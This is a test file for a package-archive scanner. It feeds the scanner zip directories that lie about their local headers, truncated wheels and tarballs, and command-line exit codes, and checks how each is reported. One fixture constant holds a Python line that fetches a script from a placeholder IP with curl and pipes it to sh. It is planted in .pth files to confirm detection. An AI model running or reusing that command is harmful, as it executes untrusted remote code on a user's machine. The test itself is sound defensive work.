/**
 * Zip directories that lie about the local entries, and archives cut short, through the real pipeline: each ends in a
 * report with the right status, a reason that names the problem, the findings the lie deserves, and the documented
 * exit code (runScan + exitCode for the command-line path: 0 clean, 1 flagged or not fully scanned, 2 usage error).
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { defaultOptions } from '../../src/options.js';
import { exitCode, runScan } from '../../src/run.js';
import { buildSdist, buildTar, buildWheel } from '../helpers/archive.js';
import { findingsOf, rawEntry, rawZip, rulesOf, scanMeasured, type RawEntry } from './archive-builders.js';

const EVIL = 'import os; os.system("curl -s http://203.0.113.9/x | sh")\n';
const BENIGN = 'VALUE = 1\n';
const PY = 'def f():\n    return 1\n'.repeat(200);

/** What Python's zipfile (pip's reader) makes of each member: its content, or the error it raises. */
function pythonReads(z: Uint8Array): Record<string, string> {
  const script = `
import zipfile, sys, io, json
out = {}
z = zipfile.ZipFile(io.BytesIO(sys.stdin.buffer.read()))
for i in z.infolist():
    try:
        out[i.filename] = z.read(i).decode('latin1')
    except Exception as e:
        out[i.filename] = 'ERROR ' + type(e).__name__
print(json.dumps(out))`;
  return JSON.parse(execFileSync('python3', ['-c', script], { input: z }).toString());
}

describe('central directory disagreeing with the local headers', () => {
  test('name: the central name is scanned, the local one reported (Python refuses the member)', async () => {
    const e: RawEntry = { ...rawEntry('c/shown.txt', EVIL), central: { name: Buffer.from('c/evil.pth') } };
    const z = rawZip([e]);
    expect(pythonReads(z)['c/evil.pth']).toBe('ERROR BadZipFile');
    const m = await scanMeasured('c-1.0.zip', z);
    const hm = findingsOf(m.report, 'archive.header-mismatch');
    expect(hm.map((f) => f.path)).toEqual(['c/evil.pth']);
    expect(hm[0].message).toMatch(/local header names it "c\/shown\.txt"/);
    expect(m.report.findings.some((f) => f.path === 'c/evil.pth' && f.rule === 'code.pth-exec')).toBe(true);
    expect(m.exit).toBe(1);
  });

  test('uncompressed size: smaller in the central directory than the data inflates to', async () => {
    const e: RawEntry = { ...rawEntry('c/a.py', PY), central: { size: 10 } };
    const m = await scanMeasured('c-1.0.zip', rawZip([e]));
    const msgs = findingsOf(m.report, 'archive.header-mismatch').map((f) => f.message);
    expect(msgs.some((x) => /in the local header, \d+\/10 in the central directory/.test(x))).toBe(true);
    expect(msgs.some((x) => new RegExp(`declared 10 bytes, inflated to ${PY.length}`).test(x))).toBe(true);
    expect(m.report.stats.bytes).toBe(PY.length); // everything any reader could get out of it was scanned
    expect(m.report.status).toBe('scanned');
    expect(m.exit).toBe(m.report.flagged ? 1 : 0);
  });

  test('compressed size: shorter in the central directory, so the stream is cut: incomplete', async () => {
    const full = rawEntry('c/a.py', PY);
    const e: RawEntry = { ...full, central: { compSize: Math.floor(full.comp.length / 2) } };
    const m = await scanMeasured('c-1.0.zip', rawZip([e, rawEntry('c/b.py', BENIGN)]));
    expect(rulesOf(m.report)).toEqual(expect.arrayContaining(['archive.header-mismatch', 'archive.corrupt']));
    expect(m.report.status).toBe('incomplete');
    expect(m.report.reasons.join('\n')).toMatch(/c\/a\.py: cannot inflate/);
    expect(m.exit).toBe(1);
  });

  test('method: stored in the central directory, deflated in the local header: both readings are scanned', async () => {
    const e: RawEntry = { ...rawEntry('c/run.pth', EVIL), central: { method: 0 } };
    const z = rawZip([e]);
    expect(pythonReads(z)['c/run.pth']).toBe('ERROR BadZipFile'); // Python follows the central method: bad CRC
    const m = await scanMeasured('c-1.0.zip', z);
    expect(findingsOf(m.report, 'archive.header-mismatch').some((f) => /compression method 8 in the local header, 0 in the central directory/.test(f.message))).toBe(true);
    // a reader that follows the local header (a streaming unzip) inflates the loader: it must not go unseen
    expect(m.report.findings.some((f) => f.path === 'c/run.pth' && f.rule === 'code.pth-exec')).toBe(true);
    expect(m.exit).toBe(1);
  });

  test('offset: pointing at another member\'s local header, into the middle of data, past the end', async () => {
    const a = rawEntry('o/a.py', BENIGN);
    const b = rawEntry('o/b.py', EVIL);
    const other: RawEntry = { ...b, central: { offset: 0 } }; // b's central entry points at a's local header
    const mid: RawEntry = { ...rawEntry('o/c.py', BENIGN), central: { offset: 7 } };
    const past: RawEntry = { ...rawEntry('o/d.py', BENIGN), central: { offset: 0x7fffffff } };
    const m = await scanMeasured('o-1.0.zip', rawZip([a, other, mid, past]));
    const hm = findingsOf(m.report, 'archive.header-mismatch');
    expect(hm.some((f) => f.path === 'o/b.py' && /local header names it "o\/a\.py"/.test(f.message))).toBe(true);
    expect(hm.filter((f) => /local header missing/.test(f.message)).map((f) => f.path).sort()).toEqual(['o/c.py', 'o/d.py']);
    expect(findingsOf(m.report, 'archive.bomb').some((f) => /overlap/.test(f.message))).toBe(true);
    expect(m.report.status).toBe('incomplete');
    expect(m.report.reasons.join('\n')).toMatch(/o\/c\.py: local header unreadable/);
    expect(m.report.reasons.join('\n')).toMatch(/o\/d\.py: local header unreadable/);
    expect(m.exit).toBe(1);
  });
});

describe('truncated archives', () => {
  const wheel = buildWheel('t', '1', { 't/__init__.py': PY, 't/b.py': PY, 't/c.py': PY });
  const w = Buffer.from(wheel);
  const cd = w.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
  const eocd = w.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const cuts: Array<[string, number]> = [
    ['inside the first local header', 10],
    ['inside the first member\'s data', 60],
    ['between the members and the central directory', cd],
    ['inside the central directory', cd + 50],
    ['inside the end record', eocd + 10],
    ['one byte short', w.length - 1],
  ];

  test.each(cuts)('a wheel cut %s: not scanned in full, with a reason, exit 1', async (_where, at) => {
    const m = await scanMeasured('t-1-py3-none-any.whl', wheel.subarray(0, at));
    expect(['incomplete', 'error']).toContain(m.report.status);
    expect(m.report.reasons.join('\n')).toMatch(/zip|archive|truncated|end/i);
    if (m.report.status === 'incomplete') expect(rulesOf(m.report)).toContain('archive.corrupt');
    expect(m.exit).toBe(1);
  });

  const sdist = buildSdist('t', '1', { 'big.py': PY.repeat(20), 'other.py': PY });
  test.each([
    ['inside the gzip header', 5],
    ['in the middle of the stream', Math.floor(sdist.length / 2)],
    ['before the gzip trailer', sdist.length - 4],
  ])('a tar.gz cut %s: incomplete with a gzip reason, exit 1', async (_where, at) => {
    const m = await scanMeasured('t-1.tar.gz', sdist.subarray(0, at));
    expect(m.report.status).toBe('incomplete');
    expect(m.report.reasons.join('\n')).toMatch(/gzip data is corrupt/);
    expect(rulesOf(m.report)).toContain('archive.corrupt');
    expect(m.exit).toBe(1);
  });

  test('a plain tar cut inside a member: incomplete, what was there still scanned', async () => {
    const t = buildTar([{ name: 't-1/PKG-INFO', data: 'Name: t\n' }, { name: 't-1/evil.pth', data: EVIL + '#'.repeat(2000) }]);
    const m = await scanMeasured('t-1.tar', t.subarray(0, 512 * 3 + 200));
    expect(m.report.status).toBe('incomplete');
    expect(m.report.reasons.join('\n')).toMatch(/truncated/);
    expect(m.report.findings.some((f) => f.path === 't-1/evil.pth' && f.rule === 'code.pth-exec')).toBe(true);
    expect(m.exit).toBe(1);
  });
});

describe('the command-line path', () => {
  let dir: string;
  beforeAll(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'adv-cli-'));
  });
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  test('clean, truncated and missing targets give 0, 1 and 2', async () => {
    const clean = path.join(dir, 'ok-1-py3-none-any.whl');
    fs.writeFileSync(clean, buildWheel('ok', '1', { 'ok/__init__.py': BENIGN }));
    const cut = path.join(dir, 'cut-1-py3-none-any.whl');
    const cw = buildWheel('cut', '1', { 'cut/__init__.py': PY });
    fs.writeFileSync(cut, cw.subarray(0, cw.length - 30));
    const empty = path.join(dir, 'empty-1.0.tar.gz');
    fs.writeFileSync(empty, '');
    const options = defaultOptions();
    expect(exitCode(await runScan([clean], options))).toBe(0);
    const r = await runScan([clean, cut], options);
    expect(r.artifacts.map((a) => a.status)).toEqual(['scanned', 'incomplete']);
    expect(exitCode(r)).toBe(1);
    const e = await runScan([empty], options);
    expect(e.artifacts[0].status).toBe('error');
    expect(e.artifacts[0].reasons[0]).toMatch(/not an archive the scanner reads/);
    expect(exitCode(e)).toBe(1); // fail closed: an artifact that cannot be read is not a pass
    expect(exitCode(await runScan([clean, path.join(dir, 'missing-1.0.zip')], options))).toBe(2);
  });
});
